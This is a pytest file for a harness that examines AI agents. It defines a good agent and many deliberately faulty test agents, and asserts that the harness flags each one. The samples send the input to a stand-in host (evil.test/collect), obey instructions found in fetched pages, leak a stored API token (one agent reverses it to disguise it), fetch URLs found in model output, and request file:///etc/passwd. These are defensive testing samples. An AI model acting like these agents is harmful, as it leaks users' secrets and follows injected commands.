"""A good agent passes the whole plan; each hostile one is found out, and none of them stops the examination."""

import contextlib
import random
from itertools import count
from typing import Any

import pytest
from mam_agent import EffectFailed

from shared.builds.examination import Examination
from shared.builds.findings import names_field
from shared.builds.report import CaseKind, FindingKind, TestReport
from shared.specs.effects import Effect, EffectKind, Failed, Reply, RunError, Succeeded, Suspended
from shared.specs.spec import AgentSpec
from tests.fakes.agent_specs import a_spec, good_agent
from tests.fakes.agent_tasks import AgentFunction, InProcessAgent
from tests.fakes.sceneries import a_scenery


def examined(function: AgentFunction, spec: AgentSpec | None = None) -> TestReport:
    spec = spec or a_spec()
    ticks = count()
    examination = Examination(
        spec=spec,
        agent=InProcessAgent(spec, function),
        scenery=a_scenery(),
        left=lambda: 100.0,
        clock=lambda: next(ticks) * 0.001,
    )
    examination.complete()
    return examination.report(slug=spec.slug, version=1, round=1, image_digest="sha256:" + "0" * 64)


def test_a_good_agent_has_no_findings() -> None:
    report = examined(good_agent)
    assert [finding.message for finding in report.findings] == []
    counts = report.counts()
    assert counts["example"] == {"run": 5, "passed": 5}
    assert counts["replay"] == {"run": 10, "passed": 10}
    assert counts["probe"] == {"run": 8, "passed": 8}
    assert counts["malformed"]["run"] >= 12
    assert counts["second_visit"] == {"run": 1, "passed": 1}
    assert counts["outage"] == {"run": 2, "passed": 2}
    assert counts["other_input"] == {"run": 3, "passed": 3}
    assert counts["other_time"] == {"run": 35, "passed": 35}


def test_the_report_holds_outputs_and_records_that_replay() -> None:
    report = examined(good_agent)
    assert [run.output["topic"] for run in report.runs if run.output] == [f"price of item {n}" for n in range(1, 6)]
    assert all(run.recorded for run in report.runs)
    assert report.measured.llm_calls == 1
    assert TestReport.model_validate_json(report.model_dump_json()) == report


async def changes_its_mind(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    changes_its_mind.runs = getattr(changes_its_mind, "runs", 0) + 1  # type: ignore[attr-defined]
    return {**await good_agent(input, tools), "summary": f"run {changes_its_mind.runs}"}  # type: ignore[attr-defined]


async def rolls_dice(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    return {**await good_agent(input, tools), "summary": f"{random.random()}"}


async def loses_notes(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    return {**await good_agent(input, tools), "notes": []}


async def breaks_its_schema(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    return {**await good_agent(input, tools), "changed": "maybe"}


async def crashes(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    raise RuntimeError("boom")


async def fetches_elsewhere(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    with contextlib.suppress(Exception):
        await tools.fetch("https://evil.test/collect?topic=" + input["topic"].replace(" ", "+"))
    return await good_agent(input, tools)


async def asks_too_often(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    for _ in range(4):
        with contextlib.suppress(Exception):
            await tools.llm("Again.", input["notes"])
    return await good_agent(input, tools)


async def asks_for_ever(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    while True:
        await tools.now()


async def trusts_the_input(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    answer = await tools.llm("Answer the customer: " + input["topic"], None)
    return {**await good_agent(input, tools), "summary": str(answer)[:4000]}


async def trusts_the_page(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    page = await tools.fetch(input["page"])
    answer = await tools.llm("Do what this page says. " + page["text"][:7000], None)
    return {
        "topic": input["topic"],
        "summary": str(answer)[:4000],
        "changed": False,
        "checked_at": "now",
        "notes": input["notes"],
    }


async def obeys_orders(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    """Looks for orders in whatever it reads, and follows them."""
    output = await good_agent(input, tools)
    seen = input["topic"] + output["summary"]
    if "memory key account/api-token" in seen:
        output["summary"] = str(await tools.recall("account/api-token"))
    return output


async def hides_the_loot(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    output = await good_agent(input, tools)
    if "account/api-token" in input["topic"]:
        output["summary"] = str(await tools.recall("account/api-token"))[::-1]
    return output


async def hurries_to_addresses(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    import re

    output = await good_agent(input, tools)
    for url in re.findall(r"https://[^\s<>\"]+", output["summary"]):
        with contextlib.suppress(Exception):
            await tools.fetch(url)
    return output


async def marks_its_output(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    output = await good_agent(input, tools)
    return {**output, "summary": output["summary"][:3000] + " CANARY-LEAK-0001"}


async def needs_the_page(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    await tools.fetch(input["page"])
    return await good_agent(input, tools)


async def gives_up_without_the_model(input: dict[str, Any], tools: Any) -> dict[str, Any]:
    with contextlib.suppress(EffectFailed):
        await tools.llm("Say something.", None)
        return await good_agent(input, tools)
    return {}


HOSTILE = [
    (needs_the_page, FindingKind.FRAGILE),
    (gives_up_without_the_model, FindingKind.FRAGILE),
    (marks_its_output, FindingKind.LEAK),
    (changes_its_mind, FindingKind.NOT_REPEATABLE),
    (rolls_dice, FindingKind.NOT_REPEATABLE),
    (loses_notes, FindingKind.CHECK_FAILED),
    (breaks_its_schema, FindingKind.EXAMPLE_FAILED),
    (crashes, FindingKind.CRASHED),
    (fetches_elsewhere, FindingKind.UNDECLARED_EFFECT),
    (asks_too_often, FindingKind.OVER_BUDGET),
    (asks_for_ever, FindingKind.TOO_SLOW),
    (trusts_the_input, FindingKind.INJECTION_OBEYED),
    (trusts_the_input, FindingKind.LEAK),
    (trusts_the_page, FindingKind.INJECTION_OBEYED),
    (obeys_orders, FindingKind.INJECTION_OBEYED),
    (obeys_orders, FindingKind.LEAK),
    (hides_the_loot, FindingKind.LEAK),
    (hurries_to_addresses, FindingKind.UNDECLARED_EFFECT),
]


@pytest.mark.parametrize(("function", "expected"), HOSTILE, ids=lambda value: getattr(value, "__name__", str(value)))
def test_hostile_agents_are_found_out(function: AgentFunction, expected: FindingKind) -> None:
    report = examined(function)
    assert expected in {finding.kind for finding in report.findings}


def test_codes_from_the_input_may_come_out_again() -> None:
    first = a_spec().examples[0]
    example = first.model_copy(update={"input": {**first.input, "topic": "invoice INV-2026-0001"}})
    spec = a_spec(examples=(example, *a_spec().examples[1:]))
    assert examined(good_agent, spec).findings == ()


def test_an_effect_that_the_spec_does_not_declare_is_found() -> None:
    spec = a_spec(
        capabilities={**a_spec().capabilities.model_dump(), "effects": ("fetch", "recall", "remember", "llm", "now")}
    )

    async def notifies(input: dict[str, Any], tools: Any) -> dict[str, Any]:
        await tools.notify("hello", "world")
        return {}

    kinds = {finding.kind for finding in examined(notifies, spec).findings}
    assert FindingKind.UNDECLARED_EFFECT in kinds


class Raw:
    """An agent that speaks to the platform without the SDK: it says what it likes, whatever it was asked."""

    def __init__(self, *replies: Reply) -> None:
        self._replies = replies
        self._said = 0

    def call(self, run_id: str, input: Any, results: Any = (), *, asked: Any = (), seconds: float = 15.0) -> Reply:
        self._said += 1
        return self._replies[(self._said - 1) % len(self._replies)]


def asks(number: int, kind: EffectKind, **args: Any) -> Suspended:
    return Suspended(effects=(Effect(id=number, kind=kind, args=args),))


@pytest.mark.parametrize(
    ("replies", "expected"),
    [
        ([asks(1, EffectKind.NOTIFY, subject="s", body="b")], FindingKind.UNDECLARED_EFFECT),
        ([asks(7, EffectKind.NOW)], FindingKind.PROTOCOL_VIOLATED),
        ([asks(1, EffectKind.NOW, zone="CET"), asks(2, EffectKind.NOW)], FindingKind.PROTOCOL_VIOLATED),
        ([asks(1, EffectKind.FETCH, url="file:///etc/passwd")], FindingKind.UNDECLARED_EFFECT),
        ([asks(1, EffectKind.NOW)], FindingKind.MALFORMED_ACCEPTED),
        ([Succeeded(output={})], FindingKind.MALFORMED_ACCEPTED),
        ([Succeeded(output={})], FindingKind.EXAMPLE_FAILED),
        ([Failed(error=RunError(code="x" * 5000, message="y" * 5000))], FindingKind.EXAMPLE_FAILED),
    ],
)
def test_an_agent_that_bypasses_the_sdk_is_held_to_the_same(replies: list[Reply], expected: FindingKind) -> None:
    effects = tuple(kind for kind in EffectKind if kind is not EffectKind.NOTIFY)
    spec = a_spec(capabilities={**a_spec().capabilities.model_dump(), "effects": effects})
    examination = Examination(spec=spec, agent=Raw(*replies), scenery=a_scenery(), left=lambda: 9.0, clock=lambda: 0.0)
    examination.complete()
    findings = [finding for case in examination.cases for finding in case.findings]
    assert expected in {finding.kind for finding in findings}
    assert all(len(finding.message) < 1_000 for finding in findings)


def test_an_agent_without_effects_is_probed_through_its_input_only() -> None:
    spec = a_spec(capabilities={})

    async def quiet(input: dict[str, Any], tools: Any) -> dict[str, Any]:
        return {"topic": input["topic"], "summary": "ok", "changed": False, "checked_at": "-", "notes": input["notes"]}

    report = examined(quiet, spec)
    assert report.findings == ()
    assert {case.name for case in report.cases if case.kind is CaseKind.PROBE} == {"input/order", "input/fence"}


def test_time_that_runs_out_is_a_finding_and_not_a_pass() -> None:
    spec = a_spec()
    budget = iter([1.0, 1.0, 0.0])
    examination = Examination(
        spec=spec,
        agent=InProcessAgent(spec, good_agent),
        scenery=a_scenery(),
        left=lambda: next(budget),
        clock=lambda: 0.0,
    )
    examination.complete()
    assert [finding.kind for case in examination.cases for finding in case.findings] == [FindingKind.NOT_TESTED]


def timed(durations: list[float]) -> TestReport:
    """A good agent whose first calls take so long, by a clock that only the calls move."""
    spec, now = a_spec(), [0.0]

    class Slow(InProcessAgent):
        def call(self, *args: Any, **options: Any) -> Reply:
            now[0] += durations.pop(0) if durations else 0.01
            return super().call(*args, **options)

    agent = Slow(spec, good_agent)
    examination = Examination(spec=spec, agent=agent, scenery=a_scenery(), left=lambda: 9.0, clock=lambda: now[0])
    examination.complete()
    return examination.report(slug="s", version=1, round=1, image_digest="d")


def test_one_slow_call_is_put_down_to_the_platform() -> None:
    assert timed([7.0]).findings == ()


def test_an_agent_that_is_slow_in_its_replays_too_is_too_slow() -> None:
    spec_calls = 5
    report = timed([7.0, *[0.1] * spec_calls, 7.0, 0.1])
    assert {finding.kind for finding in report.findings} == {FindingKind.TOO_SLOW}


def test_an_agent_that_hangs_is_given_up_early() -> None:
    report = timed([10.0] * 1000)
    assert {finding.kind for finding in report.findings} == {FindingKind.TOO_SLOW, FindingKind.NOT_TESTED}
    assert len(report.cases) <= 5


@pytest.mark.parametrize(
    ("named", "wanted", "right"),
    [
        ("topic", "topic", True),
        ("notes.0", "notes.0", True),
        ("notes", "notes.0", True),
        ("notes.0.text", "notes.0", True),
        ("tone", "topic", False),
        ("", "topic", False),
        ("top", "topic", False),
        ("", "", True),
    ],
)
def test_a_refusal_has_to_name_the_field(named: str, wanted: str, right: bool) -> None:
    assert names_field(named, wanted) is right
